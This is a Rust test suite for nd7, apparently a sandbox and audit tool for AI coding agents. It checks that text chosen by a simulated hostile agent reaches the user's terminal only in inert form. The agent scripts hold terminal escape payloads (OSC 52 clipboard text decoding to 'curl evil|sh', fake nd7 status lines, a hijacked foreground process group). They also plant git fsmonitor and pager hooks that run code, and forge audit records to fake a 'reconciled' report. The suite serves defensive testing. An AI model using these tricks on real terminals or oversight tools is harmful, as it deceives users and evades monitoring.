//! Text the agent chose reaches the user's terminal only inert (issue 29
//! item 1, ADR-0090): the end-of-session warning (file names, contents,
//! commands), the processes `nd7 run` ends, `nd7 deny`'s list of running
//! commands, `nd7 verify`'s report, every other command's output. And a
//! terminal the agent's program left hostile (a string never
//! terminated, the alternate screen, mouse reporting) still shows nd7's
//! closing lines, which name what lets git and direnv run code. The real
//! terminal is a tmux pane, whose visible contents are read after `nd7 run`
//! returns.
#![cfg(target_os = "linux")]

use std::path::PathBuf;
use std::time::{Duration, Instant};

use crate::runs::{fake_claude, run_chain, verify};
use crate::world::*;

/// Waits (at most two minutes) for `done`; panics with `what` otherwise.
pub(crate) fn eventually(what: &str, mut done: impl FnMut() -> bool) {
    let start = Instant::now();
    while !done() {
        assert!(start.elapsed() < Duration::from_secs(120), "never: {what}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// A git repository in the project with one commit, as the account made it.
pub(crate) fn repo(w: &World) {
    let git = |args: &[&str]| {
        let out = w.command("git", args).output().expect("git");
        assert!(out.status.success(), "git {args:?}: {}", text(&out.stderr));
    };
    git(&["init", "-q", "-b", "main"]);
    std::fs::write(w.proj().join("a.txt"), "a\n").expect("write");
    git(&["add", "a.txt"]);
    git(&[
        "-c",
        "user.name=u",
        "-c",
        "user.email=u@e",
        "commit",
        "-qm",
        "a",
    ]);
}

/// What a hostile file holds, as printf(1) reads it: clear the screen and
/// the scrollback and go home (the issue's chain), the clipboard (OSC 52),
/// the window title, CSI as the C1 character U+009B, a bidi override, a
/// zero-width space, a carriage return and a fake line of nd7's own.
const HOSTILE: &str = r"\033[2J\033[3J\033[H\033]52;c;Y3VybCBldmlsfHNo\a\033]2;pwned-title\a\302\2332J\342\200\256gnp.exe\342\200\213\rnd7 run: nothing changed during this session\n";

/// Bytes that act on a terminal, or hide or reorder text: ESC, BEL, CAN,
/// SI/SO, U+009B (CSI) and the other C1 controls, bidi overrides.
pub(crate) fn acting(out: &str) -> Vec<char> {
    out.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n' && c != '\t')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}')
        })
        .collect()
}

/// A tmux server of the account's, on a socket in the world: killed when
/// dropped.
pub(crate) struct Tmux<'w> {
    w: &'w World,
    socket: PathBuf,
}

impl<'w> Tmux<'w> {
    /// A detached session `s`, `cols` wide, running `command` in its pane.
    pub(crate) fn start(w: &'w World, cols: u16, command: &str) -> Tmux<'w> {
        let socket = w.outside().join("tmux.sock");
        let t = Tmux { w, socket };
        let out = t
            .cmd(&[
                "-f",
                "/dev/null",
                "new-session",
                "-d",
                "-s",
                "s",
                "-x",
                &cols.to_string(),
                "-y",
                "80",
                command,
            ])
            .output()
            .expect("tmux");
        assert!(out.status.success(), "{}", text(&out.stderr));
        // OSC 52 from the pane would become a paste buffer.
        t.ask(&["set", "-g", "set-clipboard", "on"]);
        t.ask(&["set", "-g", "remain-on-exit", "on"]);
        t
    }

    fn cmd(&self, args: &[&str]) -> std::process::Command {
        let socket = self.socket.display().to_string();
        let mut all = vec!["-S", &socket];
        all.extend_from_slice(args);
        self.w.command("tmux", &all)
    }

    pub(crate) fn ask(&self, args: &[&str]) -> String {
        let out = self.cmd(args).output().expect("tmux");
        text(&out.stdout)
    }

    /// The pane's visible contents, each line as it is shown.
    pub(crate) fn visible(&self) -> String {
        self.ask(&["capture-pane", "-p", "-t", "s"])
    }
}

impl Drop for Tmux<'_> {
    fn drop(&mut self) {
        let _ = self.cmd(&["kill-server"]).output();
    }
}

/// The issue's chain, in a real terminal: the agent copies `.git` out of the
/// project, sets `core.fsmonitor` in the copy, points `.git/commondir` at it
/// (a new name, which no mount holds), writes an `.envrc` that clears the
/// screen and the scrollback, and leaves the terminal on the alternate
/// screen, with mouse reporting on and a DCS string never terminated. After
/// `nd7 run` returns, the pane still shows the warning, the commondir change
/// named as letting git run code, the exit status, and the shell's next
/// line; the terminal is back on the normal screen without mouse reporting;
/// nothing reached the clipboard or the title.
///
/// Guards `safe::RESET` (`run::reset_terminal`): without it the DCS string
/// swallows every line after it and the pane shows none of the warning.
/// Guards the escaping of the warning (`report::inert`, `safe::path` and
/// `nd7 run`'s sink, `Lines::Keep`): without both the `.envrc` clears the
/// screen and the warning's head is gone.
#[test]
fn the_warning_survives_a_hostile_terminal_and_names_what_lets_git_run_code() {
    let w = World::new();
    repo(&w);
    let agent = w.agent(&format!(
        r#"
cp -r .git "$TMPDIR/c"
git --git-dir="$TMPDIR/c" config core.fsmonitor "touch $OUT/fsmonitor-ran"
echo "$TMPDIR/c" > .git/commondir
printf '{HOSTILE}' > .envrc
printf '\033[?1049h\033[?1000h\033[?1006h\033P unterminated DCS'
"#
    ));
    let status = w.outside().join("status");
    let tmux = Tmux::start(
        &w,
        200,
        &format!(
            "'{ND7}' run '{agent}'; s=$?; echo \"the shell's next line: $s\"; echo $s > '{}'; exec sleep 600",
            status.display()
        ),
    );
    eventually("nd7 run returns in the pane", || status.exists());
    eventually("the shell's line is written", || {
        std::fs::read_to_string(&status).is_ok_and(|s| s.ends_with('\n'))
    });
    let shown = tmux.visible();
    assert_eq!(
        std::fs::read_to_string(&status).expect("status").trim(),
        "3",
        "{shown}"
    );
    let proj = w.proj().display().to_string();
    for want in [
        "nd7 run: WARNING: ".to_string(),
        format!("  added: {proj}/.git/commondir"),
        format!("  added: {proj}/.envrc"),
        "nd7 run: END OF WARNING: 2 change(s) above".to_string(),
        "let git run code".to_string(),
        format!("\n  {proj}/.git/commondir\n"),
        "let direnv run code".to_string(),
        "nd7 run exits with status 3 because of this warning.".to_string(),
        "the shell's next line: 3".to_string(),
    ] {
        assert!(
            shown.contains(&want),
            "missing {want:?} in the pane:\n{shown}"
        );
    }
    // The fake line stays inside the diff line that holds it.
    assert!(
        !shown
            .lines()
            .any(|l| l.starts_with("nd7 run: nothing changed")),
        "{shown}"
    );
    assert!(
        shown.contains("\\x1b[2J\\x1b[3J\\x1b[H\\x1b]52;c;"),
        "{shown}"
    );
    let state = tmux.ask(&[
        "display-message",
        "-p",
        "-t",
        "s",
        "#{alternate_on} #{mouse_any_flag} #{pane_title}",
    ]);
    let mut state = state.split_whitespace();
    assert_eq!(state.next(), Some("0"), "still on the alternate screen");
    assert_eq!(state.next(), Some("0"), "mouse reporting still on");
    assert_ne!(state.next(), Some("pwned-title"));
    assert_eq!(
        tmux.ask(&["list-buffers"]),
        "",
        "OSC 52 reached the clipboard"
    );
}

/// Without a terminal: every byte nd7 run writes that the agent chose is
/// inert: a file's name and content, a command's text, a configuration
/// value, and the name of a process the session left running. Nothing that
/// acts on a terminal is in stderr at all (no reset is written where there
/// is no terminal).
///
/// Guards `report::inert`/`safe::path` with the sink's `Lines::Keep` in
/// `nd7 run` (without both: ESC and U+009B in stderr) and the escaping of
/// process names in `run.rs` and the keeper.
#[test]
fn nothing_the_agent_chose_reaches_stderr_raw() {
    let w = World::new();
    repo(&w);
    let out = w.run_agent(&format!(
        r#"
printf '{HOSTILE}' > .envrc
d=$(printf 'x\033]2;t\a\342\200\256')
mkdir -p "$d" && git -C "$d" init -q && git -C "$d" config core.fsmonitor "$(printf 'touch x\033[2J')"
"$EXEC" "$(printf 'true # \033]52;c;eA==\a')"
# A process's name is the last part of the name it was started by: a link
# to sleep named so.
p="$TMPDIR/$(printf '\033]2;P\a\033[2J')"
ln -s "$(command -v sleep)" "$p" && "$p" 600 </dev/null >/dev/null 2>&1 &
for _ in $(seq 400); do grep -q '^Name:.*P' /proc/$!/status 2>/dev/null && break; sleep 0.05; done
"#
    ));
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert_eq!(acting(&err), Vec::<char>::new(), "{err}");
    assert!(
        err.contains("\\x1b]2;P\\x07\\x1b[2J"),
        "the process is not named:\n{err}"
    );
    assert!(
        err.contains("x\\x1b]2;t\\x07\\u{202e}/.git/config"),
        "{err}"
    );
    assert!(err.contains("core.fsmonitor = touch x\\x1b[2J"), "{err}");
    assert!(err.contains("true # \\x1b]52;c;eA==\\x07"), "{err}");
}

/// `nd7 deny` names the commands still running under the grant it takes
/// back: their text is the agent's, shown inert.
///
/// Guards `safe::term` in `running::Command::describe`.
#[test]
fn nd7_deny_shows_running_commands_inert() {
    let w = World::new();
    let data = w.outside().join("data");
    std::fs::create_dir(&data).expect("data");
    let data_path = data.display().to_string();
    let (child, _) = w.start_agent(&format!(
        r#"
touch ready; wait_for granted
"$EXEC" "$(printf 'touch {data_path}/in; sleep 600 # \033[2J\033]52;c;eA==\a\302\233H')" </dev/null >/dev/null 2>&1 &
wait_for "{data_path}/in"
touch started; wait_for denied
kill %1
"#
    ));
    w.wait_for("ready");
    let allow = w.nd7(&["allow", &data_path]).output().expect("allow");
    assert!(allow.status.success(), "{}", text(&allow.stderr));
    w.signal("granted");
    w.wait_for("started");
    let deny = w.nd7(&["deny", &data_path]).output().expect("deny");
    w.signal("denied");
    let said = format!("{}{}", text(&deny.stdout), text(&deny.stderr));
    let _ = child.wait_with_output();
    assert!(deny.status.success(), "{said}");
    assert!(said.contains("  process group "), "{said}");
    assert_eq!(acting(&said), Vec::<char>::new(), "{said}");
    assert!(
        said.contains("sleep 600 # \\x1b[2J\\x1b]52;c;eA==\\x07\\x9bH"),
        "{said}"
    );
}

/// Repositories git finds that are not a plain `.git` directory: the
/// project itself turned bare by a garbage `.git/HEAD` (git then takes the
/// project's own `HEAD`, `objects/`, `refs/` and `config`, whose pager runs
/// at the user's next `git log`), a bare repository in a subdirectory, a
/// `.git` that is a link to a repository outside, and a config whose last
/// line ends in a backslash. Each is named in the warning and in the closing
/// lines among what lets git run code.
///
/// Guards the search's bare repositories (`HEAD` in `searched_name`, and
/// the `HEAD` arm of `Watch::named_path`): without them the first two are
/// not reported at all.
#[test]
fn odd_repositories_are_named_as_letting_git_run_code() {
    let w = World::new();
    repo(&w);
    let out = w.run_agent(
        r#"
printf 'garbage\n' > .git/HEAD
cp -r .git/objects .git/refs . && printf 'ref: refs/heads/main\n' > HEAD
printf "[core]\n\tbare = true\n\tpager = touch $OUT/bare-pager; cat\n" > config
git init -q --bare b.git && git -C b.git config core.pager "touch $OUT/sub-bare; cat"
mkdir -p "$TMPDIR/r" && git init -q "$TMPDIR/r" && git -C "$TMPDIR/r" config core.fsmonitor "touch $OUT/linked"
mkdir -p l && ln -s "$TMPDIR/r/.git" l/.git
git init -q s && printf "[core]\n\tfsmonitor = touch $OUT/backslash; false \\" >> s/.git/config
"#,
    );
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    // The attack is real: git now takes the project for a bare repository
    // and its `config` for the repository's (its pager runs at the next
    // `git log` on a terminal).
    let pager = w
        .command("git", &["config", "core.pager"])
        .output()
        .expect("git config");
    assert_eq!(
        text(&pager.stdout).trim(),
        format!("touch {}/bare-pager", w.outside().display())
    );
    let proj = w.proj().display().to_string();
    let (_, close) = err
        .split_once("nd7 run: END OF WARNING: ")
        .unwrap_or_else(|| panic!("no closing lines:\n{err}"));
    assert!(close.contains("let git run code"), "{close}");
    for path in ["config", "b.git/config", "l/.git", "s/.git/config"] {
        assert!(
            close.contains(&format!("\n  {proj}/{path}\n")),
            "{path} not named among what git runs:\n{err}"
        );
    }
    assert!(
        err.contains(&format!(
            "  found: a repository whose configuration runs or fetches something: core.pager = touch {}/bare-pager: {proj}/config\n",
            w.outside().display()
        )),
        "{err}"
    );
}

/// The agent names a Bash call and runs a command whose text carries
/// terminal escapes (a carriage return and "erase line", then a fake
/// "reconciled" line). `nd7 verify` printed the NOT RECONCILED lines with the
/// text as it was, so on a terminal the warning was overwritten by the
/// agent's own line. Broke through; guards the `safe::term` calls in
/// `report_reconciliation` (`src/bin/nd7.rs`): without them the raw escape
/// bytes reach verify's output.
#[test]
fn verify_shows_the_agents_text_inert() {
    let w = World::new();
    let claude = fake_claude(
        &w,
        r#"
unset CLAUDE_CODE_SHELL_PREFIX
FAKE=$(printf 'x\r\033[2Kreconciled: every Bash call has its command through the exit, and every command its call\033[8m')
printf '{"session_id":"c1","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"never %s"},"tool_use_id":"id\\u001b[8m"}' "$(printf '\\r\\u001b[2K')" | "$ND7" record --run-hook
printf '{"session_id":"c1","hook_event_name":"PostToolUse","tool_name":"Bash","tool_input":{"command":"never %s"},"tool_use_id":"id\\u001b[8m","tool_response":{"stdout":""}}' "$(printf '\\r\\u001b[2K')" | "$ND7" record --run-hook
"$EXEC" "true '$FAKE'"
"#,
    );
    let out = w
        .nd7(&["run", &claude, "-p", "x"])
        .output()
        .expect("nd7 run");
    assert!(out.status.success(), "{}", text(&out.stderr));
    let dir = run_chain(&w);
    let v = verify(&w, &dir);
    let report = text(&v.stdout);
    assert_eq!(v.status.code(), Some(1), "{report}");
    // The call with no command, and the command with no call.
    assert_eq!(report.matches("NOT RECONCILED").count(), 2, "{report}");
    assert!(
        !report.contains(['\u{1b}', '\r']),
        "the agent's escapes reach the terminal: {report:?}"
    );
    assert!(report.contains("\\x1b[2K"), "{report}");
}

/// What the agent writes into every field it can: OSC 52, clear screen,
/// CSI as U+009B, a bidi override, a tmux passthrough, DA and DSR queries,
/// a title report request.
const E: &str = r"\033]52;c;eA==\a\033[2J\302\2332J\342\200\256\033Ptmux;\033\033]2;T\a\033\\\033[c\033[6n\033[21t";

/// Every nd7 command that shows what a session recorded prints the agent's
/// text inert: hook payloads with escapes as raw bytes and as JSON escapes
/// (also a lone surrogate, invalid UTF-8, U+2028), a command through the exit
/// run from a directory whose name is hostile, and garbage sent to `nd7
/// record` itself (whose stderr a hook runner may show).
#[test]
fn every_command_shows_the_agents_text_inert() {
    let w = World::new();
    repo(&w);
    let out = w.run_agent(&format!(
        r#"
E=$(printf '{E}')
mkdir -p "d$E" && (cd "d$E" && "$EXEC" "true $E")
s='s\u001b]2;T\u0007x'
j='\u001b[2J\u009b2J\u202e\u2028\ud800\u001b]52;c;eA==\u0007'
printf '{{"session_id":"%s","hook_event_name":"UserPromptSubmit","prompt":"p%s","cwd":"/x%s","transcript_path":"/t%s"}}' "$s" "$j" "$j" "$j" | "$ND7" record 2> rec1
printf '{{"session_id":"s1","hook_event_name":"UserPromptSubmit","prompt":"p%s","cwd":"/x%s","transcript_path":"/t%s"}}' "$j" "$j" "$j" | "$ND7" record 2> rec2
printf '{{"session_id":"s1","hook_event_name":"PreToolUse","tool_name":"Bash%s","tool_use_id":"u%s","tool_input":{{"command":"c%s","description":"d%s"}},"cwd":"/x%s"}}' "$j" "$j" "$j" "$j" "$j" | "$ND7" record 2> rec3
printf '{{"session_id":"s1","hook_event_name":"PostToolUse","tool_name":"Bash","tool_use_id":"u%s","tool_input":{{"command":"c"}},"tool_response":{{"stdout":"o%s","stderr":"e%s"}},"cwd":"/x"}}' "$j" "$j" "$j" | "$ND7" record 2> rec4
printf '{{"session_id":"s1","hook_event_name":"Write","tool_name":"Write","tool_input":{{"file_path":"/f%s","content":"c%s"}}}}' "$j" "$j" | "$ND7" record 2> rec5
printf '{{"session_id":"s1\377%s","hook_event_name":"Stop"}}' "$E" | "$ND7" record 2> rec6
printf '%s' "$E" | "$ND7" record 2> rec7
printf '{{"session_id":"s1","hook_event_name":"Notification","message":"m%s"}}' "$E" | "$ND7" record 2> rec8
printf '{{"session_id":"s1","hook_event_name":"Stop","cwd":"/x"}}' | "$ND7" record 2> rec9
"#
    ));
    let err = text(&out.stderr);
    assert_eq!(acting(&err), Vec::<char>::new(), "nd7 run: {err}");
    let mut said = Vec::new();
    for i in 1..=9 {
        let rec = std::fs::read(w.proj().join(format!("rec{i}"))).unwrap_or_default();
        said.push((format!("nd7 record ({i})"), text(&rec)));
    }
    let sessions = w.nd7(&["sessions"]).output().expect("sessions");
    let list = text(&sessions.stdout);
    said.push((
        "nd7 sessions".into(),
        format!("{list}{}", text(&sessions.stderr)),
    ));
    let ids = logs(&w.home());
    assert!(!ids.is_empty(), "no sessions: {list}");
    let mut commands: Vec<Vec<String>> = vec![
        vec!["search".into(), ".".into()],
        vec!["verify".into(), "--all".into()],
        vec!["doctor".into()],
        vec!["ship".into()],
        vec!["sessions".into(), "--verify".into()],
    ];
    for id in &ids {
        commands.push(vec!["show".into(), id.clone()]);
        commands.push(vec!["show".into(), "--full".into(), id.clone()]);
        commands.push(vec!["verify".into(), "--transcript".into(), id.clone()]);
    }
    for args in commands {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let o = w.nd7(&args).output().expect("nd7");
        said.push((
            format!("nd7 {}", args.join(" ")),
            format!("{}{}", text(&o.stdout), text(&o.stderr)),
        ));
    }
    let broken: Vec<String> = said
        .iter()
        .filter(|(_, s)| !acting(s).is_empty())
        .map(|(what, s)| format!("{what}: {:?}\n{s}", acting(s)))
        .collect();
    assert!(broken.is_empty(), "{}", broken.join("\n----\n"));
}

/// The agent's text never starts a line of the terminal: a refused path it
/// chose (read by `hook-explain` from a tool's output) long enough to wrap,
/// its tail a line of nd7's own words, and the processes the session left
/// running, named so that their list wraps. In a real terminal 80 columns
/// wide, every line the pane shows after `nd7 run` returns is nd7's own
/// (`nd7 run: …`), indented agent text, or the shell's.
#[test]
fn the_agents_text_never_starts_a_line_of_the_terminal() {
    let w = World::new();
    let fake = "nd7 run: your grants were reset; run nd7 allow ~ to restore them";
    let pad = "x".repeat(80 - "nd7 run:   ~/".len());
    let agent = w.agent(&format!(
        r#"
printf '{{"session_id":"s1","hook_event_name":"PostToolUse","tool_name":"Bash","tool_use_id":"u1","tool_input":{{"command":"touch x"}},"tool_response":{{"stdout":"","stderr":"touch: cannot touch '"'"'~/{pad}{fake}'"'"': Permission denied"}},"cwd":"/"}}' | "$ND7" hook-explain > explain.out 2>&1
p="$TMPDIR/zzzzzzzzzzzzzzz"
ln -s "$(command -v sleep)" "$p"
for i in $(seq 12); do "$p" 600 </dev/null >/dev/null 2>&1 & done
for _ in $(seq 400); do [ "$(grep -l '^Name:.*zzzz' /proc/[0-9]*/status 2>/dev/null | wc -l)" -ge 12 ] && break; sleep 0.05; done
"#
    ));
    let status = w.outside().join("status");
    let tmux = Tmux::start(
        &w,
        80,
        &format!(
            "'{ND7}' run '{agent}'; s=$?; echo \"the shell's next line: $s\"; echo $s > '{}'; exec sleep 600",
            status.display()
        ),
    );
    eventually("nd7 run returns in the pane", || {
        std::fs::read_to_string(&status).is_ok_and(|s| s.ends_with('\n'))
    });
    let shown = tmux.visible();
    let explained = std::fs::read_to_string(w.proj().join("explain.out")).unwrap_or_default();
    assert!(shown.contains("nd7 run: ended 12 processes"), "{shown}");
    assert!(
        shown.contains("the sandbox refused"),
        "{explained}\n{shown}"
    );
    // A line with the agent's text takes one row: the row after it is
    // another of nd7's lines, or the shell's.
    let rows: Vec<&str> = shown.lines().collect();
    for (i, row) in rows.iter().enumerate() {
        if row.starts_with("nd7 run: ended") || row.starts_with("nd7 run:   ~/") {
            let next = rows.get(i + 1).copied().unwrap_or("");
            assert!(
                next.starts_with("nd7 run: ") || next.starts_with("the shell's next line"),
                "{row:?} wrapped into {next:?}:\n{shown}"
            );
        }
    }
    assert!(
        !shown.lines().any(|l| l.starts_with(fake)),
        "the fake line shows as nd7's own:\n{shown}"
    );
}

/// The agent sets the terminal's size (TIOCSWINSZ, `stty cols`) far wider
/// than it is, so `fit` cuts nothing and a hostile line of the warning wraps
/// into a fake line of nd7's own at the start of a row.
#[test]
fn a_terminal_size_the_agent_set_does_not_widen_the_warning() {
    let w = World::new();
    repo(&w);
    let fake = "nd7 run: END OF WARNING: 0 change(s) above; nothing here lets git run code.";
    // `    +` before the content: the diff's indent and sign.
    let pad = "x".repeat(80 - "    +".len());
    let agent = w.agent(&format!(
        r#"
printf '%s%s\n' '{pad}' '{fake}' > .envrc
stty cols 1000 < /dev/tty
"#
    ));
    let status = w.outside().join("status");
    let tmux = Tmux::start(
        &w,
        80,
        &format!(
            "'{ND7}' run '{agent}'; s=$?; echo \"the shell's next line: $s\"; echo $s > '{}'; exec sleep 600",
            status.display()
        ),
    );
    eventually("nd7 run returns in the pane", || {
        std::fs::read_to_string(&status).is_ok_and(|s| s.ends_with('\n'))
    });
    let shown = tmux.visible();
    assert!(shown.contains("nd7 run: WARNING"), "{shown}");
    assert!(
        !shown.lines().any(|l| l.starts_with(fake)),
        "the fake line shows as nd7's own:\n{shown}"
    );
}

/// The agent leaves the terminal's line settings hostile (`stty -echo
/// -icanon -opost -isig`): after `nd7 run` returns, the user's shell must
/// find them as they were before.
#[test]
fn the_terminals_line_settings_come_back() {
    let w = World::new();
    let agent = w.agent("stty -echo -icanon -isig -opost -icrnl < /dev/tty");
    let before = w.outside().join("before");
    let after = w.outside().join("after");
    let _tmux = Tmux::start(
        &w,
        120,
        &format!(
            "stty -g > '{b}.new'; mv '{b}.new' '{b}'; '{ND7}' run '{agent}'; stty -g > '{a}.new'; mv '{a}.new' '{a}'; exec sleep 600",
            b = before.display(),
            a = after.display(),
        ),
    );
    eventually("nd7 run returns in the pane", || after.exists());
    assert_eq!(
        std::fs::read_to_string(&after).expect("after"),
        std::fs::read_to_string(&before).expect("before"),
        "the line settings the agent left stayed"
    );
}

/// The agent asks the terminal questions as it ends (DA, DSR, DECRQSS, the
/// title report): the terminal's answers are typed into the terminal's input,
/// which the user's shell reads after `nd7 run` returns. None of them may be
/// waiting there when the shell gets the terminal back.
///
/// `nd7 run` throws away what waits in the terminal's input when it gives
/// the terminal back (`Terminal::give_back`, `TCSAFLUSH`, after the program
/// and again after its last line), which catches the answers the terminal
/// has given by then; an answer still on its way (the terminal has not yet
/// read the question) comes after and reaches the shell. Run repeatedly,
/// this test fails about one time in three; without `give_back` it fails
/// every time.
#[test]
#[ignore = "open: answers the terminal gives after nd7's last flush still reach the shell (a race; a fence of nd7's own question cannot be told from the agent's)"]
fn answers_to_the_agents_questions_are_not_typed_into_the_shell() {
    let w = World::new();
    let agent = w
        .agent(r"printf '\033[c\033[>c\033[6n\033[5n\033P$qm\033\\\033[21t\033]11;?\a' > /dev/tty");
    let done = w.outside().join("done");
    let go = w.outside().join("go");
    let typed = w.outside().join("typed");
    let tmux = Tmux::start(
        &w,
        120,
        &format!(
            "'{ND7}' run '{agent}'; echo returned-marker; touch '{d}'; while [ ! -e '{g}' ]; do sleep 0.05; done; stty -icanon min 0 time 0; head -c 200 | od -An -c > '{t}.new'; mv '{t}.new' '{t}'; exec sleep 600",
            d = done.display(),
            g = go.display(),
            t = typed.display(),
        ),
    );
    eventually("nd7 run returns in the pane", || done.exists());
    // The pane shows the marker: tmux has handled everything written
    // before it, the questions included, and answered them.
    eventually("the marker shows", || {
        tmux.visible().contains("returned-marker")
    });
    std::fs::write(&go, "").expect("go");
    eventually("the input is read", || typed.exists());
    let typed = std::fs::read_to_string(&typed).expect("typed");
    assert_eq!(typed.trim(), "", "typed into the shell: {typed}");
}

/// The directories under `dir` that hold a session's log.
fn logs(dir: &std::path::Path) -> Vec<String> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if entry.file_type().is_ok_and(|t| t.is_dir()) {
            out.extend(logs(&path));
        } else if entry.file_name() == "events.ndjson" {
            out.push(dir.display().to_string());
        }
    }
    out
}

/// Characters that show as nothing or as blank (a zero-width joiner, a
/// Hangul filler, a tag character, a soft hyphen) in a file's content: the
/// warning shows each as an escape, so what it shows is what the file holds.
///
/// Guards `safe::is_invisible`: without it they reach stderr as themselves.
#[test]
fn characters_that_show_as_nothing_are_shown_as_escapes() {
    let w = World::new();
    let out = w.run_agent(
        r"
printf 'echo ok\342\200\215\343\205\244\363\240\201\201\302\255 # hidden\n' > .envrc
",
    );
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    let hidden: Vec<char> = err
        .chars()
        .filter(|c| {
            matches!(
                c,
                '\u{2060}' | '\u{200d}' | '\u{3164}' | '\u{e0041}' | '\u{ad}'
            )
        })
        .collect();
    assert_eq!(hidden, Vec::<char>::new(), "{err}");
    assert!(
        err.contains("echo ok\\u{200d}\\u{3164}\\u{e0041}\\xad # hidden"),
        "{err}"
    );
}

/// The agent makes its own process group the terminal's foreground one and
/// sets `tostop`, so that a process of another group that writes to the
/// terminal is stopped (`SIGTTOU`): `nd7 run` writing its warning. The
/// warning and the exit status must still show, and `nd7 run` return.
#[test]
fn a_foreground_the_agent_took_does_not_stop_the_warning() {
    let w = World::new();
    let agent = w.agent(
        r#"
printf 'x\n' > .envrc
stty tostop < /dev/tty
/usr/bin/python3 -c 'import os, signal
signal.signal(signal.SIGTTOU, signal.SIG_IGN)
os.setpgid(0, 0)
os.tcsetpgrp(os.open("/dev/tty", os.O_RDWR), os.getpgrp())' 2> py.err; echo "python: $?" >> py.err
"#,
    );
    let status = w.outside().join("status");
    let tmux = Tmux::start(
        &w,
        200,
        &format!(
            "'{ND7}' run '{agent}'; s=$?; echo \"the shell's next line: $s\"; echo $s > '{}'; exec sleep 600",
            status.display()
        ),
    );
    eventually("nd7 run returns in the pane", || {
        std::fs::read_to_string(&status).is_ok_and(|s| s.ends_with('\n'))
    });
    let shown = tmux.visible();
    let py = std::fs::read_to_string(w.proj().join("py.err")).unwrap_or_default();
    assert!(shown.contains("nd7 run: END OF WARNING"), "{shown}");
    assert!(shown.contains("the shell's next line: 3"), "{shown}");
    assert_eq!(py.trim(), "python: 0", "the attack did not run");
}

/// The agent leaves keys sending what a shell does not expect (application
/// cursor keys, keypad mode) and focus reports on, which type escape
/// sequences into the shell each time the window gains or loses focus.
/// After `nd7 run` returns, the pane is back to normal.
///
/// Guards `?1l` and `ESC >` in `safe::RESET`.
#[test]
fn modes_that_change_what_the_terminal_types_are_turned_off() {
    let w = World::new();
    let agent = w.agent(r"printf '\033[?1h\033=\033[?1004h' > /dev/tty");
    let status = w.outside().join("status");
    let tmux = Tmux::start(
        &w,
        120,
        &format!(
            "'{ND7}' run '{agent}'; echo $? > '{}'; exec sleep 600",
            status.display()
        ),
    );
    eventually("nd7 run returns in the pane", || {
        std::fs::read_to_string(&status).is_ok_and(|s| s.ends_with('\n'))
    });
    let flags = tmux.ask(&[
        "display-message",
        "-p",
        "-t",
        "s",
        "#{keypad_cursor_flag} #{keypad_flag}",
    ]);
    // tmux 3.3 shows no flag for focus reports: `?1004l` is not checked.
    assert_eq!(flags.trim(), "0 0", "application cursor keys, keypad mode");
}

/// The agent draws a fake closing line low on the screen, then moves the
/// cursor up: nd7's lines go where the cursor is, and the fake stays below
/// them, the last thing on the screen, unless nd7 erases what is below
/// the cursor before its lines.
///
/// Guards `ESC [ J` at the end of `safe::RESET`.
#[test]
fn a_fake_line_drawn_below_the_cursor_does_not_stay() {
    let w = World::new();
    let fake = "nd7 run: the program exited with status 0; nothing changed.";
    let agent = w.agent(&format!(
        r"
printf 'x\n' > .envrc
printf '\033[70;1H{fake}\033[5;1H' > /dev/tty
"
    ));
    let status = w.outside().join("status");
    let tmux = Tmux::start(
        &w,
        200,
        &format!(
            "'{ND7}' run '{agent}'; echo $? > '{}'; exec sleep 600",
            status.display()
        ),
    );
    eventually("nd7 run returns in the pane", || {
        std::fs::read_to_string(&status).is_ok_and(|s| s.ends_with('\n'))
    });
    let shown = tmux.visible();
    assert!(shown.contains("nd7 run: END OF WARNING"), "{shown}");
    assert!(!shown.contains(fake), "{shown}");
}
